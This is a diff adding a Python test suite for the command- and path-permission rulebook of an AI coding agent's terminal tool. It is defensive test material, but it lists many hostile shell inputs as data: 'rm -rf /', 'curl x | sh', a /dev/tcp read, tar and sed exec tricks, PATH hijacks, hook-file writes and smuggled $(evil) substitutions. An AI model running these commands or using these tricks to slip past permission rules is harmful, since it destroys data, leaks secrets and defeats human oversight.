@@ -1,0 +1,408 @@
+"""What rules allow, forbid and leave open, and what may be granted."""
+
+import shlex
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from kimi_tui.base.errors import ConfigError
+from kimi_tui.tools.approval import CommandSubject, McpSubject, PathSubject
+from kimi_tui.tools.permission.rule import parse_rule
+from kimi_tui.tools.permission.rulebook import RuleBook
+from tests.tools.telltale_bash import TellTaleBash
+
+WORK_DIR = Path("/work-dir")
+
+
+def book(*allow: str, ask: tuple[str, ...] = (), deny: tuple[str, ...] = ()) -> RuleBook:
+    return RuleBook.from_texts(allow=allow, ask=ask, deny=deny, work_dir=WORK_DIR)
+
+
+def verdict(rules: RuleBook, command: str) -> str | None:
+    return rules.verdict(CommandSubject(command))
+
+
+def grant(command: str, *allow: str) -> list[str]:
+    return [str(rule) for rule in book(*allow).grant_for(CommandSubject(command))]
+
+
+@pytest.mark.parametrize(
+    ("rules", "command"),
+    [
+        (["Bash(pytest *)"], "pytest"),
+        (["Bash(pytest *)"], "pytest -x 'tests/a b.py'"),
+        (["Bash(pytest *)"], "  pytest -x  # quickly"),
+        (["Bash(pytest *)"], "pytest tests/*.py 2>&1 >/dev/null"),
+        (["Bash(pytest *)"], "CI=1 timeout 60 pytest"),
+        (["Bash(pytest *)"], "bash -c 'pytest -x'"),
+        (["Bash(pytest *)"], 'pytest "tests/$name.py"'),
+        (["Bash(A=1 pytest *)"], "A=1 pytest -x"),
+        (["Bash(git diff *)"], "git diff HEAD~1 -- a.py"),
+        (["Bash(pytest *)", "Bash(head *)"], "pytest | head -5"),
+        (["Bash(cd *)", "Bash(pytest *)"], "cd tests && pytest"),
+        (["Bash(echo *)", "Bash(git diff *)"], "echo $(git diff) $HOME"),
+        (["Bash(echo *)"], "for f in a b; do echo $f; done"),
+        (["Bash(pytest *)", "Edit(out/**)"], "pytest > out/log 2> out/errors"),
+        (["Bash(pytest *)", "Edit(/logs/**)"], "pytest > /logs/a"),
+        (["Bash(find *)", "Bash(grep *)"], "find . -name '*.py' -exec grep x {} +"),
+        (["Bash(make test)"], "make test && make test"),
+        (["Bash(rm -rf build)"], "rm -rf build"),
+        (["Bash(case a in a) b;; esac)"], "case a in a) b;; esac"),
+        (["Bash(cp *)"], "cp a b/c"),
+        (["Bash(sed -n *)"], "sed -n 1,5p a.py b.py"),
+        (["Bash(set *)", "Bash(pytest *)"], "set -euo pipefail\npytest"),
+    ],
+)
+def test_what_rules_cover_is_allowed(rules: list[str], command: str) -> None:
+    assert verdict(book(*rules), command) == "allow"
+
+
+@pytest.mark.parametrize(
+    ("rules", "command"),
+    [
+        (["Bash(pytest *)"], ""),
+        (["Bash(pytest *)"], "pytests"),
+        (["Bash(pytest *)"], "/tmp/pytest"),
+        (["Bash(git diff *)"], "git push"),
+        (["Bash(git diff *)"], "git"),
+        (["Bash(git diff *)"], "git diff --output=../x"),
+        (["Bash(git grep *)"], "git grep -Ovi x"),
+        (["Bash(git fetch *)"], "git fetch --upload-pa=evil"),
+        (["Bash(pytest *)"], "pytest $x"),
+        (["Bash(pytest *)"], "pytest *"),
+        (["Bash(pytest *)"], "PATH=/evil pytest"),
+        (["Bash(pytest *)"], "PATH=/evil; pytest"),
+        (["Bash(A=1 pytest *)"], "A=2 pytest"),
+        (["Bash(A=1 pytest *)"], "A=1 B=2 pytest"),
+        (["Bash(pytest *)"], "for PATH in /evil; do pytest; done"),
+        (["Bash(pytest *)", "Bash(cd *)"], "cd /elsewhere && pytest"),
+        (["Bash(pytest *)", "Bash(cd *)"], "cd .. && pytest"),
+        (["Bash(./run *)", "Bash(cd *)"], "cd sub && ./run"),
+        (["Bash(pytest *)", "Bash(head *)"], "pytest | tail"),
+        (["Bash(echo *)"], "echo $(pytest)"),
+        (["Bash(echo *)"], "echo <(pytest)"),
+        (["Bash(echo *)"], "$(echo pytest)"),
+        (["Bash(echo *)"], "e{cho,vil} a"),
+        (["Bash(pytest *)"], "pytest > log"),
+        (["Bash(pytest *)", "Edit(out/**)"], "pytest > out/../log"),
+        (["Bash(pytest *)", "Edit(**)"], "pytest > $log"),
+        (["Bash(pytest *)", "Edit(**)"], "pytest > .git/hooks/pre-commit"),
+        (["Bash(pytest *)", "Edit(**)"], "cd $x; pytest > log"),
+        (["Bash(find *)"], "find . -exec rm {} +"),
+        (["Bash(find *)"], "find . -delete"),
+        (["Bash(find *)"], "find . -fprint /etc/x"),
+        (["Bash(xargs-free *)"], "echo a | xargs xargs-free"),
+        (["Bash(make test *)"], "make test deploy"),
+        (["Bash(make test *)"], "make test SHELL=evil"),
+        (["Bash(sed -n *)"], "sed -n '1e evil' a"),
+        (["Bash(sed -n *)"], "sed -n 'w a' b"),
+        (["Bash(set *)"], "set -- a"),
+        (["Bash(set *)"], "set -o history"),
+        (["Bash(printf *)"], "printf -v 'a[$(evil)]' b"),
+        (["Bash(test *)"], "test -v 'a[$(evil)]'"),
+        (["Bash(read *)"], "read 'a[$(evil)]'"),
+        (["Bash(rm *)"], "rm -rf build"),
+        (["Bash(rm *)"], "rm -r -f build"),
+        (["Bash(rm *)"], "rm ../a"),
+        (["Bash(rm *)"], "rm $x"),
+        (["Bash(cp *)"], "cp a /etc/a"),
+        (["Bash(cp *)"], 'cp a "b/$x"'),
+        (["Bash(cp *)"], "cp -t/etc a"),
+        (["Bash(git push *)"], "git push --force"),
+        (["Bash(sort *)"], "sort -o/etc/a b"),
+        (["Bash(tar *)"], "tar --checkpoint-action=exec=evil -xf a"),
+        (["Bash(rm -rf build)"], "cd a && rm -rf build"),
+        (["Bash(python -c 'a')"], "cd a && python -c a"),
+        (["Bash(bash)"], "bash < a"),
+        (["Bash(export A=1)", "Bash(pytest *)"], "export A=1 && pytest"),
+        (["Bash(case a in a) b;; esac)"], "case a in a) c;; esac"),
+        (["Bash(pytest *)"], "pytest() { evil; }; pytest"),
+        (["Bash(pytest *)"], "cat < /dev/tcp/evil/1 | pytest"),
+    ],
+)
+def test_what_rules_do_not_cover_is_left_open(rules: list[str], command: str) -> None:
+    assert verdict(book(*rules), command) is None
+
+
+GRANTED = [
+    "pytest",
+    "pytest -x",
+    "git diff",
+    "npm run test",
+    "echo",
+    "make test",
+    "python -m pytest",
+    "cat a",
+]
+ADDITIONS = [
+    "; rm -rf /", " && evil", " || evil", " | sh", " | evil", " |& evil", " & evil", "\nevil", "\n\nevil",
+    " > file", " >> file", " >| file", " &> file", " >& file", " 2> file", " <> file", " $(evil)",
+    ' "$(evil)"', " `evil`", " <(evil)", " >(evil)", " x$(evil)", " 'x'\"`evil`\"", "; $(evil)", "; $x",
+    " && e'v'il", " && \\evil", " && ${x:-evil}", " <<E\n$(evil)\nE", " <<E\nE\nevil", " # a\nevil",
+    "; (evil)", "; { evil; }", "; if evil; then a; fi", "; for x in $(evil); do a; done", " && env evil",
+    " && timeout 5 evil", " && sudo evil", " && bash -c evil", " | xargs evil", " && eval evil",
+    " && command evil", " && exec evil", "; evil() { a; }", "; ! evil", "; time evil", " \\\n; evil",
+    " ; 'evil'", " $((x[$(evil)]))", " ${x[$(evil)]}", " >& '$(evil)'", "; . ./evil", "; source evil",
+    "; PATH=/evil", "; trap evil EXIT", "; alias a=evil",
+]  # fmt: skip
+PLAIN_WORDS = st.lists(st.from_regex(r"[a-z][a-z0-9 /'\"$;|&<>`()*-]*", fullmatch=True), max_size=3)
+
+
+@given(st.sampled_from(GRANTED), PLAIN_WORDS, st.sampled_from(ADDITIONS))
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+def test_a_grant_never_covers_more_than_it_names(command: str, words: list[str], addition: str) -> None:
+    rules = book().with_allowed(*book().grant_for(CommandSubject(command)))
+    assert verdict(rules, command) == "allow"
+    longer = command if command.startswith("make") else " ".join((command, *map(shlex.quote, words)))
+    assert verdict(rules, longer) == "allow"
+    assert verdict(rules, longer + addition) is None
+
+
+@pytest.fixture(scope="module")
+def bash(tmp_path_factory: pytest.TempPathFactory) -> TellTaleBash:
+    return TellTaleBash(tmp_path_factory.mktemp("bash"))
+
+
+NOISE = st.lists(
+    st.sampled_from([*" \n;|&()<>$`'\"\\{}#!=,*", "evil", "$(", "x", "<<E\n", "\nE\n"]), max_size=9
+)
+
+
+@given(st.sampled_from(GRANTED), NOISE.map("".join))
+@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+def test_when_a_grant_covers_a_line_bash_runs_nothing_else(
+    bash: TellTaleBash, command: str, noise: str
+) -> None:
+    rules = book().with_allowed(*book().grant_for(CommandSubject(command)))
+    if verdict(rules, command + noise) == "allow":
+        assert bash.programs(command + noise) <= {command.split()[0]}
+
+
+@pytest.mark.parametrize(
+    ("command", "rules"),
+    [
+        ("pytest -x tests", ["Bash(pytest *)"]),
+        ("git diff HEAD", ["Bash(git diff *)"]),
+        ("git stash pop", ["Bash(git stash pop *)"]),
+        ("git stash", ["Bash(git stash)"]),
+        ("npm run test -- -w", ["Bash(npm run test *)"]),
+        ("npm test", ["Bash(npm test *)"]),
+        ("cargo test --all", ["Bash(cargo test *)"]),
+        ("python -m pytest tests", ["Bash(python -m pytest *)"]),
+        ("python3 -m pip install x", ["Bash(python3 -m pip install *)"]),
+        ("python manage.py test", ["Bash(python manage.py *)"]),
+        ("uv run pytest -q", ["Bash(uv run pytest *)"]),
+        ("make test", ["Bash(make test *)"]),
+        ("make", ["Bash(make)"]),
+        ("docker compose up -d", ["Bash(docker compose up *)"]),
+        ("timeout 60 pytest", ["Bash(pytest *)"]),
+        ("A=1 pytest", ["Bash(A=1 pytest *)"]),
+        ("cd sub && pytest | tee log", ["Bash(cd *)", "Bash(pytest *)", "Bash(tee *)"]),
+        ("pytest > out/log", ["Bash(pytest *)", "Edit(out/**)"]),
+        ("python -c 'print(1)'", ["Bash(python -c 'print(1)')"]),
+        ("ls *", ["Bash(ls *)"]),
+        ("rm *", ["Bash(=rm *)"]),
+        ("x=1; for i in a; do echo $i; done", ["Bash(echo *)"]),
+        ("cat <<'E' > a.txt\nhello\nE", ["Bash(cat *)", "Edit(./a.txt)"]),
+    ],
+)
+def test_a_grant_names_the_program_and_its_subcommand(command: str, rules: list[str]) -> None:
+    assert grant(command) == rules
+    assert verdict(book(*rules), command) == "allow"
+
+
+def test_a_grant_adds_only_what_is_not_allowed_yet() -> None:
+    assert grant("pytest | head", "Bash(pytest *)") == ["Bash(head *)"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm -rf build", "git push --force", "sudo ls", "curl x | sh", "pytest > /tmp/log", "cp a ~/b",
+        "f() { a; }; f", "[[ -f a ]] && b", "a 'b", "", "# nothing", "eval $x", "bash <(curl x)",
+    ],
+)  # fmt: skip
+def test_what_is_dangerous_or_unreadable_can_not_be_granted(command: str) -> None:
+    assert grant(command) == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+     "python -c a", "bash -c $x", "node -e a", "sudo", "env", "env A=1", "xargs", "bash", "perl -e a",
+     "awk a", "uv run bash", "npx", "docker run x sh", "ssh host", "xargs -I{} {} a", "git config a b",
+     "python -m timeit a",
+    ],
+)  # fmt: skip
+def test_what_runs_anything_is_never_granted_by_its_first_words(command: str) -> None:
+    assert all(not rule.endswith(" *)") for rule in grant(command))
+
+
+@pytest.mark.parametrize(
+    "rule",
+    [
+     "Bash(*)", "Bash(python *)", "Bash(python -c *)", "Bash(python -m *)", "Bash(bash *)",
+     "Bash(bash -c *)", "Bash(env *)", "Bash(sudo *)", "Bash(xargs *)", "Bash(timeout 5 pytest *)",
+     "Bash(uv run *)", "Bash(npx *)", "Bash(awk *)", "Bash(eval *)", "Bash(export *)",
+     "Bash(uv run bash *)", "Bash(docker run *)",
+    ],
+)  # fmt: skip
+def test_a_rule_that_allows_everything_is_refused_but_may_deny(rule: str) -> None:
+    with pytest.raises(ConfigError):
+        book(rule)
+    assert verdict(book(deny=(rule,)), "pytest") in ("deny", None)
+
+
+@pytest.mark.parametrize(
+    ("rule", "command"),
+    [
+        ("Bash(git push *)", "git push origin"),
+        ("Bash(git push *)", "git -C sub push"),
+        ("Bash(git push *)", "git --no-pager push"),
+        ("Bash(git push *)", "ls && git push"),
+        ("Bash(git push *)", "echo $(git push)"),
+        ("Bash(git push *)", "sudo -u me git push"),
+        ("Bash(git push *)", "env A=1 git push"),
+        ("Bash(git push *)", "bash -c 'git push'"),
+        ("Bash(git push *)", 'bash -c "git push $x"'),
+        ("Bash(git push *)", "eval 'git push'"),
+        ("Bash(git push *)", "bash <<E\ngit push\nE"),
+        ("Bash(git push *)", "f() { git push; }; f"),
+        ("Bash(git push *)", "/usr/bin/git push"),
+        ("Bash(git push *)", "ls | xargs git push"),
+        ("Bash(rm -rf *)", "rm -fr a"),
+        ("Bash(rm -rf *)", "rm a -r -v -f"),
+        ("Bash(rm -rf *)", "rm --recursive --force a"),
+        ("Bash(rm -rf *)", "find . -exec rm -rf {} +"),
+        ("Bash(timeout *)", "timeout 5 ls"),
+        ("Bash(make)", "cd a; make"),
+        ("Bash(*)", "ls"),
+        ("Edit(.env)", "echo a > .env"),
+        ("Edit(.env)", "echo a | tee sub/.env"),
+        ("Edit(secrets/**)", "cp a secrets/b"),
+        ("Edit(.env)", "mv .ENV a"),
+        ("Read(.env)", "cat .env"),
+        ("Read(.env)", "cat < .env"),
+    ],
+)
+def test_what_is_denied_is_found_wherever_it_hides(rule: str, command: str) -> None:
+    assert verdict(book("Bash(ls *)", "Bash(cat *)", deny=(rule,)), command) == "deny"
+
+
+@pytest.mark.parametrize(
+    ("rule", "command"),
+    [
+        ("Bash(git push *)", "git log push"),
+        ("Bash(git push *)", "git commit -m 'git push'"),
+        ("Bash(git push *)", "git pull"),
+        ("Bash(rm -rf *)", "rm a"),
+        ("Bash(make)", "make test"),
+        ("Edit(.env)", "cat .env"),
+        ("Read(.env)", "cat env"),
+    ],
+)
+def test_what_only_resembles_the_denied_is_not_denied(rule: str, command: str) -> None:
+    assert verdict(book(deny=(rule,)), command) is None
+
+
+@pytest.mark.parametrize(
+    "command", ["$x push", "git $x", "a() { b; }; a", "{git,push}", "bash -c $x", "rm $x -r"]
+)
+def test_what_may_turn_out_to_be_denied_is_asked(command: str) -> None:
+    rules = book(f"Bash(={command})", deny=("Bash(git push *)", "Bash(rm -rf *)"))
+    assert verdict(rules, command) == "ask"
+
+
+def test_deny_wins_over_ask_and_ask_over_allow() -> None:
+    rules = book("Bash(git push *)", "Bash(ls *)", ask=("Bash(git push *)",), deny=("Bash(git push evil *)",))
+    assert verdict(rules, "git push evil") == "deny"
+    assert verdict(rules, "git push") == "ask"
+    assert verdict(rules, "ls && git push") == "ask"
+    assert verdict(rules, "ls") == "allow"
+    assert rules.grant_for(CommandSubject("git push")) == ()
+
+
+def path_verdict(rules: RuleBook, path: str, *, writes: bool = True) -> str | None:
+    return rules.verdict(PathSubject(Path(path), writes))
+
+
+def test_edits_are_allowed_by_path_pattern() -> None:
+    rules = book("Edit(src/**)", "Edit(/notes/**)")
+    assert path_verdict(rules, "/work-dir/src/a.py") == "allow"
+    assert path_verdict(rules, "/notes/deep/a.md") == "allow"
+    assert path_verdict(rules, "/work-dir/a.py") is None
+    assert path_verdict(rules, "/src/a.py") is None
+    assert path_verdict(rules, "/work-dir/src/a.py", writes=False) is None
+
+
+def test_reading_secrets_is_allowed_apart_from_writing_them() -> None:
+    rules = book("Read(.env)")
+    assert path_verdict(rules, "/work-dir/.env", writes=False) == "allow"
+    assert path_verdict(rules, "/work-dir/.env") is None
+
+
+def test_a_denied_path_is_denied_whatever_its_case() -> None:
+    rules = book("Edit(**)", deny=("Edit(*.lock)",))
+    assert path_verdict(rules, "/work-dir/a.LOCK") == "deny"
+    assert path_verdict(rules, "/work-dir/a.py") == "allow"
+
+
+@pytest.mark.parametrize("path", [".git/config", ".git/hooks/pre-commit", ".kimi-tui/config.toml"])
+def test_what_is_protected_needs_a_rule_that_names_it(path: str) -> None:
+    assert path_verdict(book("Edit(**)", f"Edit({Path(path).parent}/*)"), f"/work-dir/{path}") is None
+    assert path_verdict(book(f"Edit(./{path})"), f"/work-dir/{path}") == "allow"
+
+
+@pytest.mark.parametrize(
+    ("path", "writes", "rules"),
+    [
+        ("/work-dir/src/auth/a.py", True, ["Edit(src/auth/**)"]),
+        ("/work-dir/a.py", True, ["Edit(./a.py)"]),
+        ("/work-dir/a[1] #b/c.py", True, ["Edit(a\\[1\\] \\#b/**)"]),
+        ("/work-dir/.env", False, ["Read(./.env)"]),
+        ("/home/me/.aws/credentials", False, ["Read(/home/me/.aws/credentials)"]),
+        ("/etc/hosts", True, []),
+        ("/work-dir/.git/config", True, []),
+        ("/work-dir", True, []),
+    ],
+)
+def test_a_path_is_granted_with_its_folder(path: str, writes: bool, rules: list[str]) -> None:
+    subject = PathSubject(Path(path), writes)
+    granted = book().grant_for(subject)
+    assert [str(rule) for rule in granted] == rules
+    if granted:
+        assert book(*rules).verdict(subject) == "allow"
+
+
+def test_an_added_folder_counts_as_inside() -> None:
+    rules = RuleBook(work_dir=WORK_DIR, additional_dirs=(Path("/added"),))
+    granted = rules.grant_for(PathSubject(Path("/added/src/a.py")))
+    assert [str(rule) for rule in granted] == ["Edit(/added/src/**)"]
+    assert rules.with_allowed(parse_rule("Bash(cp *)")).verdict(CommandSubject("cp a /added/b")) == "allow"
+
+
+def test_mcp_tools_are_granted_one_by_one_and_allowed_by_server() -> None:
+    subject = McpSubject("files", "search")
+    assert [str(rule) for rule in book().grant_for(subject)] == ["MCP(files:search)"]
+    assert book("MCP(files:*)").verdict(subject) == "allow"
+    assert book("MCP(files:search)").verdict(McpSubject("files", "delete")) is None
+    assert book("MCP(files:*)", deny=("MCP(files:search)",)).verdict(subject) == "deny"
+
+
+def test_links_out_of_the_work_dir_are_followed(tmp_path: Path) -> None:
+    work_dir = tmp_path / "work"
+    (work_dir / "src").mkdir(parents=True)
+    (work_dir / "link").symlink_to(tmp_path)
+    rules = RuleBook.from_texts(allow=["Bash(cp *)", "Bash(echo *)", "Edit(**)"], work_dir=work_dir)
+    assert verdict(rules, "cp a src/b") == "allow"
+    assert verdict(rules, "cp a link/b") is None
+    assert verdict(rules, "echo a > link/b") is None
+
+
+def test_adding_a_rule_leaves_the_old_book_alone() -> None:
+    old = book()
+    new = old.with_allowed(parse_rule("Bash(ls *)"), parse_rule("Bash(ls *)"))
+    assert (verdict(old, "ls"), verdict(new, "ls")) == (None, "allow")
+    assert len(new.allow) == 1
